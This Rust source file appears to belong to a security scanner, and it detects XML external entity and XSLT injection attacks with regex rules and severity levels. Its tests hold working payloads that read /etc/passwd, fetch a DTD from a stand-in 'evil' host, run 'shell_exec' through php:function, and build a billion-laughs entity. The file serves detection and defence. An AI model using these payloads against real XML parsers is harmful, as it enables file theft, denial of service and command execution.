//! XML external entities: a document that declares entities which read files or fetch URLs.
//!
//! Checked on the raw XML text (a whole XML body, a multipart part, or XML inside a JSON string),
//! since the declarations live in the DOCTYPE, before any element text. External (`SYSTEM` /
//! `PUBLIC`) and parameter (`%`) entity declarations are Critical; an external DTD or XInclude
//! is High; an internal DOCTYPE with plain entities (the "billion laughs" shape) is High too. An
//! XSLT stylesheet sent as the document is the same attack by other means: one that calls PHP
//! (`php:function`) is Critical, one that reads a file or URL (`document('/etc/passwd')`) High.

use super::gate::lit;
use super::{Check, Family, Hit, Rules, Subject, Trigger};
use crate::finding::Severity::{Critical, High};

pub(crate) struct Xxe {
    rules: Rules,
}

impl Xxe {
    pub fn new() -> Result<Xxe, String> {
        let table = [
            (r"<!entity\s+(?:%\s*)?[^\s>]+\s+(?:system|public)\b", Critical, 0.95, "external entity"),
            (r"<!entity\s+%\s*[^\s>]+", Critical, 0.9, "parameter entity"),
            (r"<!doctype\s+[^\s>\[]+\s+(?:system|public)\s", High, 0.85, "external DTD"),
            (r#"<[a-z0-9]*:?include\s[^>]*xmlns(?::[a-z0-9]+)?\s*=\s*["']http://www\.w3\.org/2001/xinclude"#, High, 0.85, "XInclude"),
            (r"xmlns:xi\s*=|<xi:include\b", High, 0.85, "XInclude"),
            (r"<!doctype\s+[^>\[]*\[\s*(?:<!--.*?-->\s*)*<!entity\b", High, 0.8, "inline entity declarations"),
            // XSLT that runs PHP or reads files and URLs: the stylesheet is the document here.
            (r"php:function\s*\(", Critical, 0.9, "XSLT calling PHP"),
            (r#"<xsl:[a-z-]+\s[^>]*\bselect\s*=\s*["'][^"']*\b(?:document|unparsed-text)\s*\(\s*["']?(?:/|file:|https?:|ftp:|\\\\|[a-z]:)"#, High, 0.85, "XSLT reading a file or URL"),
        ];
        Ok(Xxe { rules: Rules::new(Family::Xxe, &table)? })
    }
}

impl Check for Xxe {
    fn triggers(&self) -> &'static [Trigger] {
        const T: &[Trigger] = &[
            lit("<!entity"),
            lit("<!doctype"),
            lit("xinclude"),
            lit("xi:include"),
            lit("php:function"),
            lit("<xsl:"),
        ];
        T
    }

    fn check(&self, s: &Subject<'_>) -> Option<Hit> {
        self.rules.best(s.text)
    }

    fn document_level(&self) -> bool {
        true
    }
}

#[cfg(test)]
mod tests {
    use super::super::testing::*;

    #[test]
    fn catches_xxe() {
        assert_family(
            "attack.xxe",
            &[
                "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
                "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://evil/x.dtd\"> %p;]>",
                "<!DOCTYPE r SYSTEM \"http://evil/x.dtd\"><r/>",
                "<r xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"file:///etc/passwd\"/></r>",
                "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;\">]>",
                "<xsl:stylesheet xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"><xsl:value-of select=\"php:function('shell_exec','id')\"/></xsl:stylesheet>",
                "<xsl:stylesheet><xsl:template match=\"/\"><xsl:copy-of select=\"document('file:///etc/hostname')\"/></xsl:template></xsl:stylesheet>",
                "<xsl:for-each select=\"unparsed-text('/proc/version')\"/>",
            ],
            &[
                "<?xml version=\"1.0\"?><order><id>1</id></order>",
                "<!DOCTYPE html><html></html>",
                "an entity is a thing",
                "Use php:function only with registerPHPFunctions",
            ],
        );
        // A stylesheet reading a lookup document of its own (other families may judge the markup).
        let lookup = "<xsl:stylesheet version=\"1.0\"><xsl:template match=\"/\"><xsl:value-of select=\"document('lookup.xml')/r\"/></xsl:template></xsl:stylesheet>";
        assert!(!flags("attack.xxe", lookup) && !flags_in_json("attack.xxe", lookup));
    }
}
